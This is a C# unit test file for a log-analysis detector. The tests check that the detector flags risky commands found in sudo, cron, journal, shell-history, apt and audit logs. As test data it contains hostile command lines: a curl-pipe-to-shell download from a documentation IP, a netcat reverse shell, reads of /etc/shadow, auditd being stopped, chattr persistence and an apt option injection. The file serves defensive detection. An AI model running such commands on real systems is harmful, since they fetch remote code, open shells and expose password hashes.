using Ashiato.Core.Findings;

namespace Ashiato.Tests.Detection.Detectors.Commands;

/// <summary>Where commands are read from, who ran them and how often.</summary>
public sealed class CommandDetectorTests
{
    private static readonly DateTimeOffset Start = Detected.At("2026-03-02 10:00:00");

    private static string Sudo(int second, string command, string user = "alice") =>
        Detected.Line(Start.AddSeconds(second), "sudo", $"   {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}");

    [Fact]
    public void Who_ran_it_how_often_and_when()
    {
        var found = Detected.In("auth.log", Sudo(0, "/usr/bin/cat /etc/shadow"), Sudo(60, "/usr/bin/cat /etc/shadow"), Sudo(90, "/usr/bin/cat /etc/shadow", "bob"));
        Assert.Equal(
            ["command.shadow_copied High Medium Sign x2 alice@- 03-02 10:00:00 03-02 10:01:00", "command.shadow_copied High Medium Sign x1 bob@- 03-02 10:01:30 03-02 10:01:30"],
            found.All.Select(Detected.Short));
        Assert.Equal("alice: the password file was read or copied", found.All[0].Title.En);
    }

    [Theory]
    [InlineData("   alice : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow")]
    [InlineData("   alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow")]
    [InlineData("   alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/apt-get update")]
    [InlineData("   alice : TTY=pts/0 ; PWD=/ ; USER=bob ; COMMAND=/bin/bash")]
    [InlineData("pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)")]
    public void Refused_and_harmless_commands_are_none(string message) => Detected.In("auth.log", Detected.Line(Start, "sudo", message)).Not("command.");

    [Fact]
    public void A_root_shell_is_only_to_be_known() =>
        Assert.Equal("command.root_shell Low Medium Notice x1 alice@- 03-02 10:00:00 03-02 10:00:00", Detected.Short(Assert.Single(Detected.In("auth.log", Sudo(0, "/bin/bash")).All)));

    [Theory]
    [InlineData("(root) CMD (curl -fsSL http://203.0.113.9/a.sh | sh)", "command.download_and_run High Medium Sign x1 root@- 03-02 10:00:00 03-02 10:00:00")]
    [InlineData("(www-data) CMD (systemctl stop auditd)", "command.security_disabled High Medium Sign x1 www-data@- 03-02 10:00:00 03-02 10:00:00")]
    [InlineData("(root) CMD (journalctl --vacuum-time=14d)", "command.journal_cut Low Medium Notice x1 root@- 03-02 10:00:00 03-02 10:00:00")]
    public void Cron_runs_it_again_and_again(string message, string expected)
    {
        var one = Assert.Single(Detected.In("syslog", Detected.Line(Start, "CRON[77]", message)).All);
        Assert.Equal(expected, Detected.Short(one));
        Assert.StartsWith("cron, for ", one.Title.En, StringComparison.Ordinal);
        Assert.Contains(one.Techniques, t => t.Id == "T1053.003");
    }

    [Theory]
    [InlineData("(root) CMD (   cd / && run-parts --report /etc/cron.hourly)")]
    [InlineData("(root) CMD (rsync -e ssh -a /srv backup@192.0.2.5: > /var/log/rsync.log 2>&1)")]
    [InlineData("(root) CMDOUT (curl -fsSL http://203.0.113.9/a.sh | sh)")]
    [InlineData("(alice) LIST (alice)")]
    public void Jobs_of_every_server_are_none(string message) => Detected.In("syslog", Detected.Line(Start, "CRON[77]", message)).Not("command.");

    [Fact]
    public void The_journal_tells_what_cron_ran_not_what_cron_is()
    {
        var found = new Detected().And("system.export", Detected.Journal((Start, "SYSLOG_IDENTIFIER=CRON\n_PID=77\n_COMM=cron\n_CMDLINE=/usr/sbin/CRON -f -P\nMESSAGE=(root) CMD (curl -fsSL http://203.0.113.9/a.sh | sh)")));
        Assert.Equal("command.download_and_run High Medium Sign x1 root@- 03-02 10:00:00 03-02 10:00:00", Detected.Short(Assert.Single(found.All)));
    }

    [Fact]
    public void What_command_wrote_a_journal_entry_is_no_command_of_its_kind()
    {
        var found = new Detected().And("system.export", Detected.Journal(
            (Start, "SYSLOG_IDENTIFIER=sudo\n_PID=77\n_CMDLINE=sudo cat /etc/shadow\nMESSAGE=   alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow"),
            (Start, "SYSLOG_IDENTIFIER=sudo\n_PID=77\n_CMDLINE=sudo cat /etc/shadow\nMESSAGE=pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)")));
        Assert.Equal("command.shadow_copied High Medium Sign x1 alice@- 03-02 10:00:00 03-02 10:00:00", Detected.Short(Assert.Single(found.All)));
    }

    [Fact]
    public void Shell_histories()
    {
        var found = Detected.In(".bash_history", "#1772445600", "chattr +i /etc/cron.d/x", "#1772445660", "ls");
        Assert.Equal("command.immutable High Medium Sign x1 -@- 03-02 10:00:00 03-02 10:00:00", Detected.Short(Assert.Single(found.All)));
        Assert.Equal("somebody: a file was made unchangeable", found.All[0].Title.En);
    }

    [Fact]
    public void Apts_history_although_its_first_run_names_no_command()
    {
        var found = Detected.In("history.log",
            "", "Start-Date: 2026-03-01  06:00:00", "Upgrade: bash:amd64 (5.2-1, 5.2-2)", "End-Date: 2026-03-01  06:00:09",
            "", "Start-Date: 2026-03-02  10:00:00", "Commandline: apt-get install -o DPkg::Pre-Invoke::=chattr +i /x; chattr +i /etc/apt x", "Install: hello:amd64 (2.10)", "End-Date: 2026-03-02  10:00:09");
        Assert.Equal("command.immutable", Assert.Single(found.All).Id);
    }

    [Fact]
    public void The_audit_log_shows_arguments_titles_and_sudo()
    {
        const string id = "audit(1772445600.123:77)";
        var found = Detected.In("audit.log",
            $"type=EXECVE msg={id}: argc=3 a0=\"chattr\" a1=\"+i\" a2=\"/root/.ssh\"",
            $"type=PROCTITLE msg={id}: proctitle=636861747472002B69002F726F6F742F2E737368",
            "type=EXECVE msg=audit(1772445660.123:78): argc=3 a0=\"chattr\" a1=\"+i\" a2=\"/root/.ssh\"",
            "type=USER_CMD msg=audit(1772445661.000:79): pid=9 uid=1000 auid=1000 ses=3 msg='cwd=\"/\" cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'");
        Assert.Equal(
            ["command.immutable High Medium Sign x2 -@- 03-02 10:00:00 03-02 10:01:00", "command.shadow_copied High Medium Sign x1 uid 1000@- 03-02 10:01:01 03-02 10:01:01"],
            found.All.Select(Detected.Short));
    }

    [Fact]
    public void Sudos_own_line_is_better_than_the_audit_logs()
    {
        var found = Detected.In("audit.log", "type=USER_CMD msg=audit(1772445600.500:79): pid=9 uid=1000 auid=1000 ses=3 msg='cwd=\"/\" cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'")
            .And("auth.log", Sudo(0, "/usr/bin/cat /etc/shadow"));
        Assert.Equal("command.shadow_copied High Medium Sign x1 alice@- 03-02 10:00:00 03-02 10:00:00", Detected.Short(Assert.Single(found.All)));
    }

    [Theory]
    [InlineData("type=USER_CMD msg=audit(1772445600.500:79): pid=9 uid=1000 auid=1000 ses=3 msg='cwd=\"/\" cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" terminal=pts/0 res=failed'")]
    [InlineData("type=EXECVE msg=audit(1772445600.500:79): argc=2 a0=\"ls\" a1=\"/etc/shadow\"")]
    [InlineData("type=PATH msg=audit(1772445600.500:79): item=0 name=\"/etc/shadow\" inode=1 mode=0100640")]
    public void Other_audit_records_are_none(string line) => Detected.In("audit.log", line).Not("command.");

    [Fact]
    public void Severity_of_a_reverse_shell_is_the_highest() =>
        Assert.Equal(Severity.Critical, Assert.Single(Detected.In("auth.log", Sudo(0, "/usr/bin/nc -e /bin/sh 203.0.113.9 4444")).All).Severity);
}
